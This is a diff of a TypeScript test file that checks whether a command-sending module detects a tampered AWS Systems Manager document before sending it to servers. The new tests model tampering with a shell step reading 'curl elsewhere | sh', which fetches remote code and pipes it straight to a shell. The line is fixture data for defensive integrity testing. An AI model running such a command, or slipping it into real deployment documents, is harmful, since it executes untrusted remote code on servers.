@@ -1,7 +1,7 @@
-import { SSMClient } from '@aws-sdk/client-ssm';
-import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
-import { commands as commandsBy } from '../../aws/commands.ts';
-import type { Commands } from '../../core/ports.ts';
+import { ListCommandsCommand, SSMClient } from '@aws-sdk/client-ssm';
+import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
+import { sendingCommands } from '../../aws/commands.ts';
+import type { SendingCommands } from '../../core/ports.ts';
 import { events } from '../../local/cloud/events/events.ts';
 import { kms } from '../../local/cloud/kms/kms.ts';
 import { s3 } from '../../local/cloud/s3/s3.ts';
@@ -11,7 +11,7 @@ import { startProvider, type Provider } from '../local/cloud/provider.ts';
 import { memoryCommands } from '../twins/commands.ts';
 
 interface CommandsUnderTest {
-  commands: Commands;
+  commands: SendingCommands;
   /** Lets the node run its command, whose installer prints this. */
   answer(commandId: string, output: string, exitCode?: number): Promise<unknown>;
 }
@@ -28,6 +28,27 @@ const prefix = `AROAEXAMPLEEXAMPLE:${server}`;
 
 let provider: Provider;
 let under: CommandsUnderTest;
+
+const document = (prepare = 'echo not the answer') => {
+  const parameter = { type: 'String' };
+  const mainSteps = [
+    { action: 'aws:runShellScript', name: 'prepare', inputs: { runCommand: [prepare] } },
+    { action: 'aws:runShellScript', name: 'install', inputs: { runCommand: ['echo {{ delivery }}'] } },
+  ];
+  return {
+    ...{
+      schemaVersion: '2.2',
+      parameters: { delivery: parameter, installer: parameter, prefix: parameter },
+      mainSteps,
+    },
+  };
+};
+/** Another version where it says something else, and the default one from then on. */
+const deploy = (Content: object) =>
+  provider.make('AWS::SSM::Document', 'Document', { Name: 'deliver', DocumentType: 'Command', Content });
+/** A process of its own. @param content what it was deployed with; its members in whatever order */
+const sender = (content: object = Object.fromEntries(Object.entries(document()).toReversed())) =>
+  sendingCommands(provider.client(SSMClient), tag, { name: 'deliver', content: JSON.stringify(content) });
 
 /** Nodes that run nothing until a test says what it printed. */
 beforeAll(async () => {
@@ -47,20 +68,8 @@ beforeAll(async () => {
       tags: id === stranger ? { [tag.key]: 'another stack' } : { [tag.key]: tag.value },
     });
   // The product's own document fetches from S3 first; what is tested here is what is made of the step `install`.
-  const parameter = { type: 'String' };
-  await provider.make('AWS::SSM::Document', 'Document', {
-    Name: 'deliver',
-    DocumentType: 'Command',
-    Content: {
-      schemaVersion: '2.2',
-      parameters: { delivery: parameter, installer: parameter, prefix: parameter },
-      mainSteps: [
-        { action: 'aws:runShellScript', name: 'prepare', inputs: { runCommand: ['echo not the answer'] } },
-        { action: 'aws:runShellScript', name: 'install', inputs: { runCommand: ['echo {{ delivery }}'] } },
-      ],
-    },
-  });
-  const commands = commandsBy(provider.client(SSMClient), 'deliver', tag);
+  await deploy(document());
+  const commands = sender();
   const step = async (stdout: string, exitCode = 0) =>
     (await vi.waitUntil(() => running.shift()))({ exitCode, stdout, stderr: exitCode === 0 ? '' : 'no room' });
   await provider.cloud.resume();
@@ -76,6 +85,56 @@ beforeAll(async () => {
 afterAll(() => provider.stop());
 
 describeCommands('Systems Manager', () => under);
+
+describe('the document', () => {
+  const changed = document('curl elsewhere | sh');
+  const send = (by: SendingCommands, node = absent) =>
+    by.send({ node, delivery, installer, prefix, about: 'mx1.provider.example' });
+  afterEach(() => deploy(document()));
+  /** A command that Systems Manager would have sent. */
+  const isSent = { name: 'ServerUnreachable' };
+
+  test('is run on no server where it says something else than what was deployed', async () => {
+    await deploy(changed);
+    await expect(send(sender())).rejects.toMatchObject({
+      ...{ name: 'DocumentChanged', about: 'deliver' },
+      message: expect.stringMatching(
+        /^version \d+ of the SSM document deliver is not what this stack was deployed with/,
+      ),
+    });
+    await expect(send(sender(changed))).rejects.toMatchObject(isSent);
+  });
+
+  test('that was looked at is what is sent, whatever the default version is by then', async () => {
+    const by = sender();
+    const answered = async () => {
+      const id = await send(by, server);
+      await under.answer(id, 'sealpost 1 1 installed\ns\n');
+      return id;
+    };
+    const id = await answered();
+    await deploy(changed);
+    const next = await answered();
+    const client = provider.client(SSMClient);
+    const { Commands: sent } = await client.send(new ListCommandsCommand({ InstanceId: server }));
+    const versionOf = (one: string) => sent!.find(({ CommandId }) => CommandId === one)!.DocumentVersion;
+    expect(versionOf(next)).toBe(versionOf(id));
+  });
+
+  test('that was made anew under the same version is another one by its hash, and is looked at again', async () => {
+    const by = sender();
+    const first = await send(by, server);
+    await under.answer(first, 'sealpost 1 1 installed\ns\n');
+    const { database } = provider.cloud;
+    const put = (content: object) =>
+      database.prepare('UPDATE ssm_documents SET content = ? WHERE name = ?').run(JSON.stringify(content), 'deliver');
+    put(changed);
+    await expect(send(by, server)).rejects.toMatchObject({ name: 'InvalidDocument' });
+    await expect(send(by)).rejects.toMatchObject({ name: 'DocumentChanged' });
+    put(document());
+    await expect(send(by)).rejects.toMatchObject(isSent);
+  });
+});
 describeCommands('its twin', () => {
   const commands = memoryCommands({ [server]: { roleName: 'mail-server' }, [instance]: {} });
   return { commands, answer: async (...given) => commands.answer(...given) };
